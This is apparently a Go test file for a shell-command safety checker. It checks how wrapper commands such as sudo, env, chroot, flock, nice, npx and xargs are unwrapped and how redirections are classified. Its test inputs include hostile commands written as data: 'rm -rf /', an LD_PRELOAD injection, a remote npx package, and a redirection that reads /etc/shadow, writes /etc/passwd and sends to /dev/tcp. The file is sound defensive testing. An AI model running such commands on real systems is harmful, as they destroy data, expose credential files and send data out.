package safety

import (
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// parsedInvocation unwraps the only simple command of src.
func parsedInvocation(t *testing.T, j *judge, src string, in []*callInfo) invocation {
	t.Helper()
	sc := j.rootScope()
	ce := simpleCall(t, src)
	return j.unwrap(j.words(ce.Args, sc), in)
}

func simpleCall(t *testing.T, src string) *syntax.CallExpr {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), "")
	if err != nil {
		t.Fatal(err)
	}
	ce, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok {
		t.Fatalf("%q is not a simple command", src)
	}
	return ce
}

// TestUnwrapJudgesNothing checks that unwrapping only describes the
// command: the layers say what they are and the findings are left to
// the rules.
func TestUnwrapJudgesNothing(t *testing.T) {
	p := corpusPolicy(t)
	j := newJudge(p)
	inv := parsedInvocation(t, j, "sudo LD_PRELOAD=/tmp/x.so env -i PAGER=less chroot /srv flock -c 'rm -rf /' x", nil)
	if len(j.findings) != 0 || j.calls != 0 {
		t.Fatalf("unwrap judged: %+v", j.findings)
	}
	var names []string
	for _, l := range inv.layers {
		names = append(names, l.wrapper)
	}
	if want := []string{"sudo", "env", "chroot", "flock"}; !slices.Equal(names, want) {
		t.Fatalf("layers %v, want %v", names, want)
	}
	sudo, env, chroot, flock := inv.layers[0], inv.layers[1], inv.layers[2], inv.layers[3]
	if !sudo.privileged || len(sudo.assigns) != 1 || sudo.assigns[0].val != "LD_PRELOAD=/tmp/x.so" {
		t.Errorf("sudo layer %+v", sudo)
	}
	if env.privileged || len(env.assigns) != 1 || !has(env.opts, "i") {
		t.Errorf("env layer %+v", env)
	}
	if !chroot.privileged || chroot.root == nil || chroot.root.val != "/srv" {
		t.Errorf("chroot layer %+v", chroot)
	}
	if !flock.stopped || flock.nested == nil || flock.nested.val != "rm -rf /" {
		t.Errorf("flock layer %+v", flock)
	}
	if inv.name != "flock" {
		t.Errorf("name %q, want flock (it runs no command to judge as written)", inv.name)
	}
}

// TestUnwrapRecordsFaults checks that what stops unwrapping is recorded
// on the invocation: a name only known at run time, a package runner
// given a URL, items xargs runs.
func TestUnwrapRecordsFaults(t *testing.T) {
	p := corpusPolicy(t)
	j := newJudge(p)
	if inv := parsedInvocation(t, j, "nice -n 5 $CMD x", nil); inv.fault != nameRunTime || inv.name != "" || len(inv.layers) != 1 {
		t.Errorf("nice $CMD: %+v", inv)
	}
	if inv := parsedInvocation(t, j, "npx https://example.com/pkg.tgz", nil); inv.pkg == nil || inv.pkg.url == nil || inv.name != "npx" {
		t.Errorf("npx URL: %+v", inv)
	}
	in := []*callInfo{{literal: true, text: "a b c"}}
	inv := parsedInvocation(t, j, "xargs -I{} rm {}", in)
	if len(inv.layers) != 1 || len(inv.layers[0].extras) != 2 || inv.argv[1].val != "a" {
		t.Errorf("xargs: %+v", inv)
	}
	if len(j.findings) != 0 {
		t.Fatalf("unwrap judged: %+v", j.findings)
	}
}

// TestParseRedirectsJudgesNothing checks that the redirections are listed
// with their kinds and targets, and judged only by redirectRules.
func TestParseRedirectsJudgesNothing(t *testing.T) {
	p := corpusPolicy(t)
	j := newJudge(p)
	sc := j.rootScope()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader("cat <<<hi < /etc/shadow >> /etc/passwd > /dev/tcp/1.2.3.4/80 2>&1"), "")
	if err != nil {
		t.Fatal(err)
	}
	var inv invocation
	j.parseRedirects(&inv, f.Stmts[0].Redirs, sc)
	if len(j.findings) != 0 {
		t.Fatalf("parseRedirects judged: %+v", j.findings)
	}
	var kinds []redirKind
	for _, r := range inv.redirs {
		kinds = append(kinds, r.kind)
	}
	if want := []redirKind{redirText, redirRead, redirAppend, redirNet, redirFD}; !slices.Equal(kinds, want) {
		t.Fatalf("kinds %v, want %v", kinds, want)
	}
	if inv.stdinText == nil || inv.stdinText.val != "hi\n" || inv.stdinFile != "/etc/shadow" || inv.stdout != "/etc/passwd" {
		t.Errorf("invocation %+v", inv)
	}
}
